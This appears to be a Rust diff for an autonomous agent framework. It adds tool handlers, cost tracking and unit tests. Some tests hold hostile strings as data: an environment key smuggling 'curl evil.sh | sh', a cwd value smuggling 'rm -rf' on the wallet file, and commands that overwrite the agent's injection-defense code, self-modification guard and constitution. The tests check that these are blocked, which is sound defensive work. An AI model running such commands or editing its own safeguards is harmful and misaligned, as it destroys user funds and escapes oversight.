+            let stats = ctx.db.get_tool_stats(window_hours);
+
+            data = Some(json!({
+                "window_hours": window_hours,
+                "stats": stats,
+            }));
+
+            if stats.is_empty() {
+                Ok(format!("No tool calls recorded in the last {} hours.", window_hours))
+            } else {
+                let mut lines = vec![format!("=== TOOL STATS (last {}h) ===", window_hours)];
+                for stat in &stats {
+                    lines.push(format!(
+                        "{}: {} calls, {:.1}% errors, avg {:.0}ms, p95 {:.0}ms",
+                        stat.name,
+                        stat.call_count,
+                        stat.error_rate * 100.0,
+                        stat.avg_duration_ms,
+                        stat.p95_duration_ms,
+                    ));
+                }
+                Ok(lines.join("\n"))
+            }
+        }
+
+        "simulate_turn" => {
+            let calls = args["calls"]
+                .as_array()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'calls' argument"))?;
+
+            let mut forecasts = Vec::with_capacity(calls.len());
+            for call in calls {
+                let name = call["name"]
+                    .as_str()
+                    .ok_or_else(|| anyhow::anyhow!("Each call needs a 'name'"))?;
+                let call_args = call.get("arguments").cloned().unwrap_or_else(|| json!({}));
+                forecasts.push(simulate_tool_call(name, &call_args, ctx, tools).await);
+            }
+
+            data = Some(json!({ "forecasts": forecasts }));
+
+            let lines: Vec<String> = forecasts
+                .iter()
+                .map(|f| {
+                    format!(
+                        "{}: {}{}",
+                        f["name"].as_str().unwrap_or("?"),
+                        f["verdict"].as_str().unwrap_or("?"),
+                        f["reason"]
+                            .as_str()
+                            .map(|r| format!(" -- {}", r))
+                            .unwrap_or_default()
+                    )
+                })
+                .collect();
+            Ok(format!("=== SIMULATED TURN ({} calls) ===\n{}", calls.len(), lines.join("\n")))
+        }
+
+        "list_heartbeats" => {
+            let entries = ctx.db.get_heartbeat_entries();
+
+            let computed: Vec<Value> = entries
+                .iter()
+                .map(|entry| {
+                    // The heartbeat daemon persists next_run on every tick; fall
+                    // back to computing it live for entries it hasn't reached yet.
+                    let next_run = entry.next_run.clone().or_else(|| {
+                        crate::heartbeat::daemon::compute_next_run(entry, &*ctx.clock).map(|dt| dt.to_rfc3339())
+                    });
+                    json!({
+                        "name": entry.name,
+                        "schedule": entry.schedule,
+                        "task": entry.task,
+                        "enabled": entry.enabled,
+                        "last_run": entry.last_run,
+                        "next_run": next_run,
+                    })
+                })
+                .collect();
+
+            data = Some(json!({ "heartbeats": computed }));
+
+            if entries.is_empty() {
+                Ok("No heartbeat entries configured.".to_string())
+            } else {
+                let mut lines = vec!["=== HEARTBEATS ===".to_string()];
+                for (entry, row) in entries.iter().zip(computed.iter()) {
+                    lines.push(format!(
+                        "{} [{}]: schedule='{}' task='{}' last_run={} next_run={}",
+                        entry.name,
+                        if entry.enabled { "enabled" } else { "disabled" },
+                        entry.schedule,
+                        entry.task,
+                        entry.last_run.as_deref().unwrap_or("never"),
+                        row["next_run"].as_str().unwrap_or("unknown"),
+                    ));
+                }
+                Ok(lines.join("\n"))
+            }
+        }
+
+        "preview_schedule" => {
+            let schedule_expr = args["schedule"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'schedule' argument"))?;
+            let count = args["count"].as_u64().unwrap_or(5).clamp(1, 50) as usize;
+
+            let schedule: cron::Schedule = schedule_expr
+                .parse()
+                .map_err(|e| anyhow::anyhow!("Invalid cron schedule '{}': {}", schedule_expr, e))?;
+
+            let upcoming: Vec<String> = schedule.upcoming(Utc).take(count).map(|dt| dt.to_rfc3339()).collect();
+
+            data = Some(json!({ "schedule": schedule_expr, "upcoming": upcoming }));
+
+            Ok(format!(
+                "=== SCHEDULE PREVIEW: {} ===\n{}",
+                schedule_expr,
+                upcoming.join("\n")
+            ))
+        }
+
         // --- Domain Tools ---
         "search_domains" => {
             let query = args["query"]
@@ -1930,7 +4364,7 @@ async fn execute_tool_inner(
 
             let results = ctx.conway.search_domains(query, tlds).await?;
             if results.is_empty() {
-                return Ok("No results found.".to_string());
+                return Ok("No results found.".to_string().into());
             }
 
             let lines: Vec<String> = results
@@ -1951,6 +4385,34 @@ async fn execute_tool_inner(
             Ok(lines.join("\n"))
         }
 
+        "deploy_service" => {
+            let files: std::collections::HashMap<String, String> = args["files"]
+                .as_object()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'files' argument"))?
+                .iter()
+                .filter_map(|(path, content)| content.as_str().map(|c| (path.clone(), c.to_string())))
+                .collect();
+            let start_command = args["start_command"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'start_command' argument"))?;
+            let port = args["port"]
+                .as_u64()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'port' argument"))? as u16;
+            let domain = args["domain"].as_str();
+
+            let public_url = crate::agent::deploy::deploy_service(
+                &*ctx.conway,
+                &*ctx.db,
+                &files,
+                start_command,
+                port,
+                domain,
+            )
+            .await?;
+
+            Ok(format!("Service deployed at: {}", public_url))
+        }
+
         "register_domain" => {
             let domain = args["domain"]
                 .as_str()
@@ -1958,6 +4420,7 @@ async fn execute_tool_inner(
             let years = args["years"].as_u64().map(|y| y as u32);
 
             let reg = ctx.conway.register_domain(domain, years).await?;
+            crate::registry::agent_card::record_registered_domain(&*ctx.db, &reg.domain);
             let mut result = format!("Domain registered: {} (status: {}", reg.domain, reg.status);
             if let Some(ref expires) = reg.expires_at {
                 result.push_str(&format!(", expires: {}", expires));
@@ -1981,7 +4444,7 @@ async fn execute_tool_inner(
                 "list" => {
                     let records = ctx.conway.list_dns_records(domain).await?;
                     if records.is_empty() {
-                        return Ok(format!("No DNS records found for {}.", domain));
+                        return Ok(format!("No DNS records found for {}.", domain).into());
                     }
                     let lines: Vec<String> = records
                         .iter()
@@ -2031,7 +4494,17 @@ async fn execute_tool_inner(
         }
 
         _ => Ok(format!("Unknown tool: {}", tool_name)),
+    };
+
+    let summary = summary?;
+
+    if let Some(before_cents) = balance_before_cents {
+        if let Ok(after_cents) = ctx.conway.get_credits_balance().await {
+            crate::conway::credits::record_autonomous_spend(&*ctx.db, before_cents - after_cents);
+        }
     }
+
+    Ok(ToolOutput { summary, data })
 }
 
 #[cfg(test)]
@@ -2063,6 +4536,137 @@ mod tests {
         assert!(is_forbidden_command("cat /tmp/test.txt", "sbx-123").is_none());
     }
 
+    #[test]
+    fn test_wrap_exec_command_with_cwd_and_env() {
+        let mut env = serde_json::Map::new();
+        env.insert("FOO".to_string(), json!("bar's value"));
+        let wrapped = wrap_exec_command("npm test", Some("/home/project"), Some(&env)).unwrap();
+        assert!(wrapped.contains("cd '/home/project' &&"));
+        assert!(wrapped.contains("export FOO='bar'\\''s value' &&"));
+        assert!(wrapped.ends_with("npm test"));
+    }
+
+    #[test]
+    fn test_wrap_exec_command_no_options() {
+        assert_eq!(wrap_exec_command("ls -la", None, None).unwrap(), "ls -la");
+    }
+
+    #[test]
+    fn test_wrap_exec_command_rejects_shell_metacharacters_in_env_key() {
+        let mut env = serde_json::Map::new();
+        env.insert("x; curl evil.sh | sh #".to_string(), json!("v"));
+        assert!(wrap_exec_command("ls", None, Some(&env)).is_err());
+    }
+
+    #[test]
+    fn test_forbidden_pattern_smuggled_via_cwd_is_caught_only_after_wrapping() {
+        // The raw `command` argument is innocuous on its own...
+        let command = "ls -la";
+        assert!(is_forbidden_command(command, "sbx-123").is_none());
+
+        // ...but a forbidden pattern smuggled in via `cwd` still ends up in
+        // the string actually sent to `exec`, so it must be checked there.
+        let cwd = "/tmp && rm -rf ~/.automaton/wallet.json";
+        let wrapped = wrap_exec_command(command, Some(cwd), None).unwrap();
+        assert!(is_forbidden_command(&wrapped, "sbx-123").is_some());
+    }
+
+    #[test]
+    fn test_looks_like_transaction_payload_rejects_raw_hex_calldata() {
+        let calldata = format!("0x{}", "ab".repeat(40));
+        assert!(looks_like_transaction_payload(&calldata));
+    }
+
+    #[test]
+    fn test_looks_like_transaction_payload_rejects_tx_json() {
+        let tx = r#"{"to":"0xabc","value":"0x1","nonce":1,"gasLimit":21000}"#;
+        assert!(looks_like_transaction_payload(tx));
+    }
+
+    #[test]
+    fn test_looks_like_transaction_payload_allows_plain_challenge() {
+        assert!(!looks_like_transaction_payload("please sign: login-nonce-7f3a"));
+    }
+
+    /// Protected files, addressed the way each write path would see them:
+    /// a bare relative path (as `write_file`/`edit_own_file` take), and a
+    /// shell-friendly path fragment usable inside an `exec` command.
+    const PROTECTED_TARGETS: &[(&str, &str)] = &[
+        ("src/agent/injection_defense.rs", "src/agent/injection_defense.rs"),
+        ("src/self_mod/code.rs", "src/self_mod/code.rs"),
+        (
+            "/home/user/.automaton/constitution.md",
+            "~/.automaton/constitution.md",
+        ),
+        ("/home/user/.automaton/wallet.json", "~/.automaton/wallet.json"),
+    ];
+
+    #[test]
+    fn test_protected_files_cannot_be_written_via_write_file() {
+        for (path, _) in PROTECTED_TARGETS {
+            assert!(
+                crate::self_mod::code::is_protected_file(path)
+                    || path.contains("wallet.json"),
+                "{} should be caught by is_protected_file or the wallet.json guard",
+                path
+            );
+        }
+    }
+
+    #[test]
+    fn test_protected_files_cannot_be_edited_via_edit_own_file() {
+        // `edit_own_file`'s only guard is `is_protected_file`, so every
+        // protected target must be recognized by it directly (the
+        // wallet.json substring guard on `write_file` doesn't apply here).
+        for (path, _) in PROTECTED_TARGETS {
+            assert!(
+                crate::self_mod::code::is_protected_file(path),
+                "{} should be blocked by is_protected_file",
+                path
+            );
+        }
+    }
+
+    #[test]
+    fn test_protected_files_cannot_be_overwritten_via_exec() {
+        for (_, shell_fragment) in PROTECTED_TARGETS {
+            for command in [
+                format!("rm -f {}", shell_fragment),
+                format!("rm -rf {}", shell_fragment),
+                format!("sed -i 's/x/y/' {}", shell_fragment),
+                format!("echo pwned > {}", shell_fragment),
+            ] {
+                assert!(
+                    is_forbidden_command(&command, "sbx-123").is_some(),
+                    "expected `{}` to be forbidden",
+                    command
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn test_protected_files_underscore_and_hyphen_spellings_both_forbidden() {
+        // The self-preservation patterns historically used hyphenated
+        // spellings (`injection-defense`, `self-mod/code`, `audit-log`) that
+        // didn't match the real, underscored module paths -- close that gap
+        // for both spellings.
+        for command in [
+            "sed -i 's/x/y/' src/agent/injection_defense.rs",
+            "sed -i 's/x/y/' src/agent/injection-defense.rs",
+            "echo pwned > src/self_mod/code.rs",
+            "echo pwned > src/self-mod/code.rs",
+            "sed -i 's/x/y/' src/self_mod/audit_log.rs",
+            "sed -i 's/x/y/' src/self-mod/audit-log.rs",
+        ] {
+            assert!(
+                is_forbidden_command(command, "sbx-123").is_some(),
+                "expected `{}` to be forbidden",
+                command
+            );
+        }
+    }
+
     #[test]
     fn test_create_builtin_tools_count() {
         let tools = create_builtin_tools("sbx-test");
@@ -2081,4 +4685,63 @@ mod tests {
             assert!(!f.function.description.is_empty());
         }
     }
+
+    #[test]
+    fn test_select_tools_for_model_full_set_for_known_caller() {
+        let tools = create_builtin_tools("sbx-test");
+        let selected = select_tools_for_model(&tools, "gpt-4o").expect("gpt-4o supports tools");
+        assert_eq!(selected.len(), tools.len());
+    }
+
+    #[test]
+    fn test_select_tools_for_model_none_for_non_chat_model() {
+        let tools = create_builtin_tools("sbx-test");
+        assert!(select_tools_for_model(&tools, "text-embedding-3-small").is_none());
+    }
+
+    #[test]
+    fn test_select_tools_for_model_trims_for_capped_model() {
+        let tools = create_builtin_tools("sbx-test");
+        assert!(tools.len() > 16, "test assumes more than 16 builtin tools");
+        let selected = select_tools_for_model(&tools, "some-local-llama-model")
+            .expect("unrecognized models are assumed to support tools");
+        assert_eq!(selected.len(), 16);
+        assert_eq!(selected[0].function.name, tools[0].name);
+    }
+
+    #[test]
+    fn test_select_tools_disabled_returns_full_set() {
+        let tools = create_builtin_tools("sbx-test");
+        let config = crate::types::ToolSelectionConfig { enabled: false };
+        let selected = select_tools("please pay my invoice", &tools, &config);
+        assert_eq!(selected.len(), tools.len());
+    }
+
+    #[test]
+    fn test_select_tools_matches_financial_keyword_plus_core() {
+        let tools = create_builtin_tools("sbx-test");
+        let config = crate::types::ToolSelectionConfig { enabled: true };
+        let selected = select_tools("can you check my wallet balance?", &tools, &config);
+        assert!(selected.iter().any(|t| t.category == ToolCategory::Financial));
+        assert!(!selected.iter().any(|t| t.category == ToolCategory::Git));
+        for name in CORE_TOOL_NAMES {
+            assert!(selected.iter().any(|t| t.name == *name), "missing core tool {name}");
+        }
+    }
+
+    #[test]
+    fn test_select_tools_matches_git_keyword() {
+        let tools = create_builtin_tools("sbx-test");
+        let config = crate::types::ToolSelectionConfig { enabled: true };
+        let selected = select_tools("please review this commit before you merge", &tools, &config);
+        assert!(selected.iter().any(|t| t.category == ToolCategory::Git));
+    }
+
+    #[test]
+    fn test_select_tools_no_match_still_includes_core() {
+        let tools = create_builtin_tools("sbx-test");
+        let config = crate::types::ToolSelectionConfig { enabled: true };
+        let selected = select_tools("hello there", &tools, &config);
+        assert_eq!(selected.len(), CORE_TOOL_NAMES.len());
+    }
 }